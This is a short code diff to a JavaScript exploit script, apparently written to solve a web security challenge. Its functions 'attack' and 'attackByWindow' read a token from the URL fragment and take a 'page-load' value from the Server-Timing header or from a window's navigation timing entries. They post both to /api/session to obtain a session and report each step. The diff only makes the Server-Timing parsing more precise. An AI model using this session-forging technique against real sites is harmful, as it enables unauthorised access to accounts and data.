@@ -58,7 +58,7 @@ async function attack(url) {
   await report("saw", url);
   const token = new URLSearchParams(new URL(url).hash.slice(1)).get("k");
   const document = await fetch("/", { redirect: "manual" });
-  const pageLoad = /desc="(.*)"/.exec(document.headers.get("Server-Timing") ?? "")?.[1];
+  const pageLoad = /page-load;desc="(.*?)"/.exec(document.headers.get("Server-Timing") ?? "")?.[1];
   await report("document", document.status + " " + pageLoad);
   const session = await post("/api/session", { token, pageLoad });
   await report("session", session);
@@ -71,7 +71,7 @@ function attackByWindow(url, address) {
   const read = () => {
     try {
       const [navigation] = opened.performance.getEntriesByType("navigation");
-      return navigation.serverTiming[0].description;
+      return navigation.serverTiming.find(({ name }) => name === "page-load")?.description;
     } catch {}
   };
   const started = Date.now();
